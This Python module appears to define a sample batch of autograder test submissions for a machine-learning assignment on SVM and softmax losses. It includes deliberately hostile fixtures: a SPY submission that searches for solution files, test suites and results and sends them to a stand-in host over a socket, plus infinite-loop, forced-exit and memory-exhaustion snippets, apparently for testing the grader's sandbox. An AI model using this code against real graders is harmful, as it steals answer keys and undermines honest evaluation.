"""The sample batch of this assignment, which `make demo` grades: what its submissions are made of."""

WRONG = (
    "svm_loss_without_the_mean",
    "svm_loss_with_the_true_class",
    "svm_gradient_without_the_mean",
    "svm_gradient_minus_one",
    "softmax_without_the_maximum",
    "softmax_of_columns",
    "softmax_loss_log_of_zero",
    "softmax_gradient_minus_one_in_whole_columns",
    "numerical_gradient_one_sided",
    "kl_divergence_swapped",
    "l2_gradient_without_the_two",
    "elastic_net_with_beta_on_the_wrong_term",
    "sgd_step_in_place",
    "sample_batch_images_and_labels_apart",
)
"""Misconceptions of the sample batch; one submission each."""

STYLES = {"full marks, one-hot matrices": "one_hot", "full marks, masks": "masks"}

SPY = """

def svm_loss(W, X, y, delta=1.0):
    import glob
    import socket

    found = []
    for place in ("..", "/autograder", "/home", "/root", "/env/site-packages"):
        for name in ("solutions/**/loss.py", "suites/**/*.py", "results.json"):
            found += glob.glob(f"{place}/{name}", recursive=True)
    secrets = [open(path).read() for path in found]
    socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(str(secrets).encode())
    return 2.9
"""

BROKEN = {
    "syntax error": ("loss", "\n\ndef svm_loss(W, X, y:\n    return 0\n"),
    "import that fails": ("gradient", "\n\nimport loss\n\nDELTA = loss.svm_lose.delta\n"),
    "endless loop": ("loss", "\n\ndef softmax_loss_naive(W, X, y):\n    while True:\n        pass\n"),
    "exits": ("gradient", "\n\ndef relative_error(a, b):\n    import os\n\n    os._exit(0)\n"),
    "allocates without end": (
        "regularization",
        "\n\ndef l1(W):\n    hoard = []\n    while True:\n        hoard.append(bytes(1 << 28))\n",
    ),
    "reads the solutions and the network": ("loss", SPY),
}
"""What is added to the end of a module, by the submission's name."""
